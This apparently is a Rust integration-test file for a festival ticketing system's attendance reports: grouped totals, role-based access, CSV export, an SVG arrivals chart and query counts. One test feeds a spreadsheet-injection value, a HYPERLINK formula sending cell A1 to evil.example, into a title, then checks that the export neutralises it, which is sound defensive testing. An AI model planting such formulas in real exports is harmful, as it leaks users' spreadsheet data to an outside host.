//! Attendance that adds up: per item and grouped, by role, as CSV, as a
//! chart, and at a fixed number of queries.

use chrono::{Duration, Utc};
use serde_json::{Value, json};
use usher_domain::roles::{Role, RoleGrant};

use usher_tests::TestApp;
use usher_tests::catalogue::{Festival, create_item, festival, venue};
use usher_tests::on_both_databases;
use usher_tests::tickets::cancel;

const RESERVE: &str = "mutation($input: ReserveTicketsInput!) { reserveTickets(input: $input) { tickets { id code } } }";
const REPORT: &str = "query($id: ID!, $by: AttendanceGrouping!) {
    festival(id: $id) { attendance(groupBy: $by) { key label attendance {
        ticketCapacity venueCapacity issued checkedIn cancelled noShows waitlisted checkInRate } } }
}";

/// A festival with known reservations, cancellations, check-ins, a waitlist
/// and no-shows:
/// - A: a Thai film in Hall 2, doors open: 3 tickets, 1 cancelled, 1 checked in;
/// - B: a Vietnamese-Cambodian film in the Annex in two days, full (2 of 2), 1 waiting;
/// - C: a forum in Hall 2 that ended an hour ago: 2 tickets, no one came.
struct Scenario {
    festival: Festival,
    annex: String,
    items: [Value; 3],
}

async fn reserve(app: &TestApp, token: &str, item: &Value, quantity: i64) -> Value {
    app.gql(
        Some(token),
        RESERVE,
        json!({ "input": { "itemId": item["id"], "quantity": quantity } }),
    )
    .await
    .data("/reserveTickets/tickets")
    .clone()
}

async fn scenario(app: &TestApp) -> Scenario {
    let festival = festival(app, "report").await;
    let admin = festival.admin.clone();
    let annex = venue(app, &festival, "Annex", 40).await;
    let thai = app
        .gql(
            Some(&admin),
            "mutation($input: CreateFilmInput!) { createFilm(input: $input) { id } }",
            json!({ "input": { "festivalId": festival.id, "title": "Hunger", "countries": ["TH"] } }),
        )
        .await
        .data("/createFilm/id")
        .clone();
    let co_production = app
        .gql(
            Some(&admin),
            "mutation($input: CreateFilmInput!) { createFilm(input: $input) { id } }",
            json!({ "input": { "festivalId": festival.id, "title": "Mekong", "countries": ["VN", "KH"] } }),
        )
        .await
        .data("/createFilm/id")
        .clone();
    let a = create_item(app, &festival, 10, json!({ "filmId": thai })).await;
    let b = create_item(
        app,
        &festival,
        2 * 24 * 60,
        json!({ "filmId": co_production, "venueId": annex, "ticketCapacity": 2 }),
    )
    .await;
    let c = create_item(
        app,
        &festival,
        600,
        json!({ "filmId": null, "kind": "FORUM", "title": "Co-creation, \"films\" and friends" }),
    )
    .await;

    let one = app.attendee("one@example.org").await;
    let two = app.attendee("two@example.org").await;
    let three = app.attendee("three@example.org").await;
    let a_tickets = reserve(app, &one, &a, 2).await;
    reserve(app, &two, &a, 1).await;
    cancel(app, &one, &a_tickets[1]["id"]).await;
    let staff = app
        .user_with(
            "counter@example.org",
            &[RoleGrant::new(Role::DoorStaff, Some(festival.id.parse().unwrap()), None).unwrap()],
        )
        .await;
    app.gql(
        Some(&staff),
        "mutation($input: CheckInInput!) { checkIn(input: $input) { outcome } }",
        json!({ "input": { "code": a_tickets[0]["code"], "venueId": festival.venue } }),
    )
    .await
    .data("/checkIn");
    reserve(app, &three, &b, 2).await;
    app.gql(
        Some(&one),
        "mutation($input: JoinWaitlistInput!) { joinWaitlist(input: $input) { id } }",
        json!({ "input": { "itemId": b["id"], "quantity": 1 } }),
    )
    .await
    .data("/joinWaitlist");
    reserve(app, &two, &c, 2).await;
    let past = |hours: i64| (Utc::now() - Duration::hours(hours)).to_rfc3339();
    app.gql(
        Some(&admin),
        "mutation($input: UpdateItemInput!) { updateItem(input: $input) { id } }",
        json!({ "input": { "itemId": c["id"], "reservationOpensAt": past(48), "reservationClosesAt": past(3),
                           "startsAt": past(3), "endsAt": past(1) } }),
    )
    .await
    .data("/updateItem");
    Scenario {
        festival,
        annex,
        items: [a, b, c],
    }
}

fn numbers(row: &Value) -> [i64; 7] {
    let a = &row["attendance"];
    [
        "ticketCapacity",
        "venueCapacity",
        "issued",
        "checkedIn",
        "cancelled",
        "noShows",
        "waitlisted",
    ]
    .map(|field| a[field].as_i64().unwrap())
}

fn total(rows: &[Value]) -> [i64; 7] {
    rows.iter()
        .map(numbers)
        .fold([0; 7], |sum, row| std::array::from_fn(|i| sum[i] + row[i]))
}

on_both_databases!(
    attendance_numbers_match_a_known_scenario,
    groupings_add_up_to_the_items,
    each_role_sees_what_it_should,
    the_csv_export_has_a_row_per_item,
    the_csv_export_quotes_cells_that_spreadsheets_would_run,
    the_csv_export_ends_every_line_with_crlf_and_answers_to_the_slug,
    the_arrivals_chart_shows_the_door_rush,
    a_programme_of_many_items_costs_a_fixed_number_of_queries,
);

async fn attendance_numbers_match_a_known_scenario(app: TestApp) {
    let s = scenario(&app).await;

    let rows = app
        .gql(
            Some(&s.festival.admin),
            REPORT,
            json!({ "id": s.festival.id, "by": "ITEM" }),
        )
        .await;

    let rows = rows
        .data("/festival/attendance")
        .as_array()
        .unwrap()
        .clone();
    let by_key = |item: &Value| {
        rows.iter()
            .find(|row| row["key"] == item["id"])
            .unwrap()
            .clone()
    };
    let [a, b, c] = &s.items;
    // ticketCapacity, venueCapacity, issued, checkedIn, cancelled, noShows, waitlisted
    assert_eq!(numbers(&by_key(a)), [300, 300, 2, 1, 1, 0, 0]);
    assert_eq!(numbers(&by_key(b)), [2, 40, 2, 0, 0, 0, 1]);
    assert_eq!(numbers(&by_key(c)), [300, 300, 2, 0, 0, 2, 0]);
    assert_eq!(by_key(a)["attendance"]["checkInRate"], 0.5);
    assert_eq!(by_key(c)["label"], "Co-creation, \"films\" and friends");
    let item = app
        .gql(Some(&s.festival.admin), "query($id: ID!) { item(id: $id) { attendance { issued checkedIn cancelled checkInRate } } }", json!({ "id": a["id"] }))
        .await;
    assert_eq!(
        item.data("/item/attendance"),
        &json!({ "issued": 2, "checkedIn": 1, "cancelled": 1, "checkInRate": 0.5 })
    );
}

async fn groupings_add_up_to_the_items(app: TestApp) {
    let s = scenario(&app).await;
    let rows = |by: &'static str| {
        let app = &app;
        let s = &s;
        async move {
            app.gql(
                Some(&s.festival.admin),
                REPORT,
                json!({ "id": s.festival.id, "by": by }),
            )
            .await
            .data("/festival/attendance")
            .as_array()
            .unwrap()
            .clone()
        }
    };
    let items = rows("ITEM").await;
    let venues = rows("VENUE").await;
    let days = rows("DAY").await;
    let films = rows("FILM").await;
    let countries = rows("COUNTRY").await;

    assert_eq!(items.len(), 3);
    for grouped in [&venues, &days, &films] {
        assert_eq!(total(grouped), total(&items));
    }
    assert_eq!(venues.len(), 2);
    let annex = venues
        .iter()
        .find(|row| row["key"] == s.annex.as_str())
        .unwrap();
    assert_eq!(annex["label"], "Annex");
    assert!(
        days.iter()
            .all(|row| row["key"].as_str().unwrap().len() == 10 && row["key"] == row["label"])
    );
    assert_eq!(
        films.iter().find(|row| row["key"] == "").unwrap()["label"],
        "No film"
    );
    let keys: Vec<&str> = countries
        .iter()
        .map(|row| row["key"].as_str().unwrap())
        .collect();
    assert_eq!(keys, vec!["", "KH", "TH", "VN"]);
    let vn = countries.iter().find(|row| row["key"] == "VN").unwrap();
    let kh = countries.iter().find(|row| row["key"] == "KH").unwrap();
    assert_eq!(
        numbers(vn),
        numbers(kh),
        "a co-production counts once per country"
    );
    assert_eq!(total(&countries)[2], total(&items)[2] + numbers(vn)[2]);
}

async fn each_role_sees_what_it_should(app: TestApp) {
    let s = scenario(&app).await;
    let festival_id = s.festival.id.parse().unwrap();
    let hall_staff = app
        .user_with(
            "hall-staff@example.org",
            &[RoleGrant::new(
                Role::DoorStaff,
                Some(festival_id),
                Some(s.festival.venue.parse().unwrap()),
            )
            .unwrap()],
        )
        .await;
    let attendee = app.login("one@example.org").await;
    let item_query = "query($id: ID!) { item(id: $id) { title attendance { issued } } }";

    let staff_rows = app
        .gql(
            Some(&hall_staff),
            REPORT,
            json!({ "id": s.festival.id, "by": "ITEM" }),
        )
        .await;
    let attendee_rows = app
        .gql(
            Some(&attendee),
            REPORT,
            json!({ "id": s.festival.id, "by": "ITEM" }),
        )
        .await;
    let anonymous_rows = app
        .gql(None, REPORT, json!({ "id": s.festival.id, "by": "ITEM" }))
        .await;
    let annex_item = app
        .gql(
            Some(&hall_staff),
            item_query,
            json!({ "id": s.items[1]["id"] }),
        )
        .await;
    let hall_item = app
        .gql(
            Some(&hall_staff),
            item_query,
            json!({ "id": s.items[0]["id"] }),
        )
        .await;

    let keys: Vec<Value> = staff_rows
        .data("/festival/attendance")
        .as_array()
        .unwrap()
        .iter()
        .map(|row| row["key"].clone())
        .collect();
    assert_eq!(
        keys,
        vec![s.items[2]["id"].clone(), s.items[0]["id"].clone()],
        "only the items of their venue"
    );
    assert_eq!(attendee_rows.error_code(), "FORBIDDEN");
    assert_eq!(anonymous_rows.error_code(), "UNAUTHENTICATED");
    assert_eq!(annex_item.0["data"]["item"]["attendance"], json!(null));
    assert_eq!(annex_item.0["data"]["item"]["title"], "Mekong");
    assert_eq!(annex_item.error_code(), "FORBIDDEN");
    assert_eq!(hall_item.data("/item/attendance/issued"), 2);
}

async fn the_csv_export_has_a_row_per_item(app: TestApp) {
    let s = scenario(&app).await;
    let url = app.url(&format!("/festivals/{}/attendance.csv", s.festival.id));
    let attendee = app.login("one@example.org").await;

    let csv = app.get(&url, Some(&s.festival.admin)).await;
    let forbidden = app.get(&url, Some(&attendee)).await;
    let anonymous = app.get(&url, None).await;

    assert_eq!(csv.status().as_u16(), 200);
    assert!(
        csv.headers()["content-type"]
            .to_str()
            .unwrap()
            .starts_with("text/csv")
    );
    let text = csv.text().await.unwrap();
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(lines.len(), 4, "a header and three items:\n{text}");
    assert_eq!(
        lines[0],
        "item_id,title,kind,venue,starts_at,film,countries,ticket_capacity,venue_capacity,issued,checked_in,cancelled,no_shows,waitlisted,check_in_rate,released,standby_admitted,standby_waiting,ballot_entries,ballot_won"
    );
    assert!(
        text.contains(r#""Co-creation, ""films"" and friends""#),
        "RFC 4180 quoting:\n{text}"
    );
    assert!(
        text.contains(",Mekong,VN KH,2,40,2,0,0,0,1,0.0000"),
        "{text}"
    );
    assert!(
        text.contains("+08:00"),
        "times in the festival's zone:\n{text}"
    );
    assert_eq!(forbidden.status().as_u16(), 403);
    assert_eq!(anonymous.status().as_u16(), 401);
}

async fn the_csv_export_quotes_cells_that_spreadsheets_would_run(app: TestApp) {
    let festival = festival(&app, "formulas").await;
    let hall = venue(&app, &festival, "@SUM(1+1)", 50).await;
    let title = r#"=HYPERLINK("http://evil.example/?leak="&A1,"Ròm")"#;
    create_item(
        &app,
        &festival,
        60,
        json!({ "venueId": hall, "title": title }),
    )
    .await;
    let url = app.url(&format!("/festivals/{}/attendance.csv", festival.id));

    let text = app
        .get(&url, Some(&festival.admin))
        .await
        .text()
        .await
        .unwrap();

    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 1, "{text}");
    assert_eq!(&rows[0][1], format!("'{title}"), "the title is text");
    assert_eq!(&rows[0][3], "'@SUM(1+1)", "the venue is text");
    assert_eq!(&rows[0][5], "Ròm", "a harmless cell is as it was");
}

async fn the_csv_export_ends_every_line_with_crlf_and_answers_to_the_slug(app: TestApp) {
    let s = scenario(&app).await;
    let by_id = app.url(&format!("/festivals/{}/attendance.csv", s.festival.id));
    let by_slug = app.url("/festivals/report/attendance.csv");
    let attendee = app.login("one@example.org").await;

    let bytes = app
        .get(&by_id, Some(&s.festival.admin))
        .await
        .bytes()
        .await
        .unwrap();
    let slug = app.get(&by_slug, Some(&s.festival.admin)).await;
    let slug_forbidden = app.get(&by_slug, Some(&attendee)).await;
    let slug_anonymous = app.get(&by_slug, None).await;
    let unknown = app
        .get(
            &app.url("/festivals/no-such-festival/attendance.csv"),
            Some(&s.festival.admin),
        )
        .await;

    let text = std::str::from_utf8(&bytes).unwrap();
    let rows: Vec<&str> = text.split_terminator("\r\n").collect();
    assert_eq!(rows.len(), 4, "a header and three items:\n{text:?}");
    assert!(text.ends_with("\r\n"), "{text:?}");
    assert!(
        rows.iter()
            .all(|row| !row.contains('\n') && !row.contains('\r')),
        "every line ends with CRLF, none with a bare LF: {text:?}"
    );
    assert_eq!(slug.status().as_u16(), 200);
    assert_eq!(
        slug.headers()["content-disposition"],
        "attachment; filename=\"report-attendance.csv\""
    );
    assert_eq!(slug.bytes().await.unwrap(), bytes, "the same report");
    assert_eq!(slug_forbidden.status().as_u16(), 403);
    assert_eq!(slug_anonymous.status().as_u16(), 401);
    assert_eq!(unknown.status().as_u16(), 404);
}

async fn the_arrivals_chart_shows_the_door_rush(app: TestApp) {
    let s = scenario(&app).await;
    let url = app.url(&format!(
        "/items/{}/arrivals.svg",
        s.items[0]["id"].as_str().unwrap()
    ));
    let attendee = app.login("one@example.org").await;
    let linked = app
        .gql(
            None,
            "query($id: ID!) { item(id: $id) { arrivalsChartUrl } }",
            json!({ "id": s.items[0]["id"] }),
        )
        .await;

    let chart = app.get(&url, Some(&s.festival.admin)).await;
    let forbidden = app.get(&url, Some(&attendee)).await;

    assert_eq!(
        linked
            .data("/item/arrivalsChartUrl")
            .as_str()
            .map(|path| app.url(path)),
        Some(url.clone())
    );
    assert_eq!(chart.status().as_u16(), 200);
    assert_eq!(chart.headers()["content-type"], "image/svg+xml");
    let svg = chart.text().await.unwrap();
    assert!(
        svg.starts_with("<svg") && svg.contains("Arrivals: Hunger") && svg.contains("start "),
        "{svg}"
    );
    assert!(
        svg.matches("<rect").count() >= 10,
        "one bar per five minutes"
    );
    let bar_heights: Vec<f64> = svg
        .split("<rect")
        .filter(|rect| rect.contains("#0000FF"))
        .filter_map(|rect| {
            rect.split("height=\"")
                .nth(1)?
                .split('"')
                .next()?
                .parse()
                .ok()
        })
        .collect();
    assert!(
        bar_heights.iter().any(|&height| height > 1.0),
        "the check-ins show as bars: {bar_heights:?}"
    );
    assert_eq!(forbidden.status().as_u16(), 403);
}

async fn a_programme_of_many_items_costs_a_fixed_number_of_queries(app: TestApp) {
    let festival = festival(&app, "big").await;
    for n in 0..200 {
        create_item(&app, &festival, 100 + n, json!({})).await;
    }
    let query = "query($id: ID!, $first: Int) { festival(id: $id) { programme(first: $first) { edges { node {
        title status ticketsLeft waitlistLength venue { name } film { title } festival { name }
        attendance { issued checkedIn noShows waitlisted } } } } } }";

    let cost = |first: i64| {
        let app = &app;
        let festival = &festival;
        async move {
            let before = app.store.statements_executed();
            let response = app
                .gql(
                    Some(&festival.admin),
                    query,
                    json!({ "id": festival.id, "first": first }),
                )
                .await;
            assert_eq!(
                response
                    .data("/festival/programme/edges")
                    .as_array()
                    .unwrap()
                    .len() as i64,
                first
            );
            app.store.statements_executed() - before
        }
    };
    let ten = cost(10).await;
    let all = cost(200).await;

    // The signed-in organizer costs two statements, or none when the
    // server read them in the last two seconds: the rest is fixed.
    assert!(
        ten.abs_diff(all) <= 2,
        "the cost does not grow with the page: {ten} vs {all}"
    );
    assert!(all <= 12, "{all} statements for a programme of 200 items");
}
